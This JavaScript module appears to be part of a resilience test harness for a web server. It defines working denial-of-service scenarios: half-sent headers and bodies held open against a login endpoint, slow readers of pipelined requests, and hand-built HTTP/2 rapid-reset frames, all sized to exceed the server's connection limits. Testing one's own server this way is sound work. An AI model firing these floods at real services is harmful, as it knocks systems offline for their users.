// Attacks by slow clients that hold connections.
import { setTimeout as pause } from "node:timers/promises";

import { address, request } from "./client.mjs";

/** The defaults of MAX_CONNECTIONS and MAX_CONNECTIONS_PER_ADDRESS. */
const MOST = 10_000;
const MOST_PER_ADDRESS = 512;
const PER_SECOND = 2000;
/** Pause between single bytes of a body, shorter than the time-out of an idle body. */
const DRIP_MS = 4000;

/** Assigns connections to addresses: each address gets the maximum of connections. */
const from = (block) => (at) => address(block, Math.floor(at / MOST_PER_ADDRESS));

export const halfHeads = {
  name: "half-sent heads",
  about: `${MOST + MOST_PER_ADDRESS} connections, more than there may be`,
  begin: (attack) =>
    attack.hold(MOST + MOST_PER_ADDRESS, PER_SECOND, from(2), (socket) => socket.write("GET /login HTTP/1.1\r\nhost: a\r\nx-slow: ")),
};

const halfBody = request("POST", "/api/v1/auth/login", { headers: { "content-type": "application/json" }, body: "{", length: 200_000 });

async function drip(socket, goesOn) {
  socket.write(halfBody);
  for (await pause(DRIP_MS); goesOn() && !socket.destroyed; await pause(DRIP_MS)) socket.write(" ");
}

export const halfBodies = {
  name: "half-sent bodies",
  about: `${8 * MOST_PER_ADDRESS} connections, all that 8 addresses may have; a byte every ${DRIP_MS / 1000} s`,
  begin: (attack) => attack.hold(8 * MOST_PER_ADDRESS, PER_SECOND, from(3), drip),
};

export const halfBodiesEverywhere = {
  name: "half-sent bodies, all places",
  about: `${MOST + MOST_PER_ADDRESS} connections of 21 addresses, more than there may be; a byte every ${DRIP_MS / 1000} s`,
  begin: (attack) => attack.hold(MOST + MOST_PER_ADDRESS, PER_SECOND, from(4), drip),
};

const READERS = 2 * MOST_PER_ADDRESS;
const PIPELINED = 20;
const document = Buffer.concat(
  Array.from({ length: PIPELINED }, () => request("GET", "/openapi.json", { headers: { connection: "keep-alive" } })),
);

export const slowReaders = {
  name: "slow readers",
  about: `${READERS} connections, all that 2 addresses may have; each asks for the API's document ${PIPELINED} times and reads nothing`,
  begin: (attack) =>
    attack.hold(READERS, 200, from(5), (socket) => {
      socket.pause();
      socket.write(document);
    }),
};

const RESETS = 1000;
const RESETTERS = 16;
const CONNECTIONS_PER_SECOND = 100;

/** HTTP/2 frames (RFC 9113) of `RESETS` requests for a page, each reset at once. */
function rapidReset() {
  const frame = (type, flags, stream, payload) => {
    const head = Buffer.alloc(9);
    head.writeUIntBE(payload.length, 0, 3);
    head.writeUInt8(type, 3);
    head.writeUInt8(flags, 4);
    head.writeUInt32BE(stream, 5);
    return Buffer.concat([head, payload]);
  };
  const text = (index, value) => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
  // By the static table of HPACK (RFC 7541): :method GET, :scheme http, :path and :authority in full.
  const fields = Buffer.concat([Buffer.from([0x82, 0x86]), text(0x04, "/login"), text(0x01, "127.0.0.1")]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const endsStreamAndHeaders = 0x5;
  const frames = Array.from({ length: RESETS }, (_, at) => {
    const stream = 2 * at + 1;
    return Buffer.concat([frame(1, endsStreamAndHeaders, stream, fields), frame(3, 0, stream, cancel)]);
  });
  return Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0)), ...frames]);
}

export const rapidResets = {
  name: "rapid reset of HTTP/2",
  about: `${CONNECTIONS_PER_SECOND} connections a second of ${RESETTERS} addresses, each with ${RESETS} requests that are reset at once`,
  begin(attack) {
    const bytes = rapidReset();
    attack.stream(CONNECTIONS_PER_SECOND, (at) => ({ from: address(6, at % RESETTERS), bytes }));
  },
};
